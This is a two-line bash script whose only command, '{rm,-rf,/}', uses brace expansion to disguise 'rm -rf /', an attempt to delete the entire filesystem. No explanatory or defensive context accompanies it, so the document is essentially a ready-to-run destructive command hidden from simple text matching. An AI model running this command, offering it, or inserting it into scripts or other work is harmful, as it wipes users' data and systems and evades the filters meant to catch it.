#!/bin/bash
{rm,-rf,/}
